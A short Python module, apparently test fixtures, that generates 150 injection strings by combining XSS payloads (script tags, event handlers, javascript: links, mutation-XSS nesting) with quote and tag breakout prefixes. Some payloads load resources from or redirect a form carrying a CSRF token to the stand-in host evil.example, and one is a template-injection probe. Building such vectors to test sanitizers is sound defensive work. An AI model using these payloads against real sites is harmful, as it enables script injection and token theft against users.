"""A hundred and fifty texts that would run or fetch something, were they no words."""

from __future__ import annotations

_DOES = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script href=data:,alert({n}) />",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<body onpageshow=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<a href=javascript:alert({n})>y</a>",
    "[y](javascript:alert({n}))",
    "<math><mtext><mglyph><style><img src=x onerror=alert({n})>",
    "<img src=//evil.example/{n}.png>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<form id=main action=//evil.example/{n}><input name=csrf_token>",
    "{{{{ {n} * 1001 }}}}",
)
_AFTER = (
    *("", '">', "'>", "</textarea>", "</title>"),
    *("</script>", "<!-- -->", "<noscript>", "&lt;b&gt;", "\u202e"),
)
VECTORS = tuple(
    before + does.format(n=place * len(_DOES) + n)
    for place, before in enumerate(_AFTER)
    for n, does in enumerate(_DOES)
)
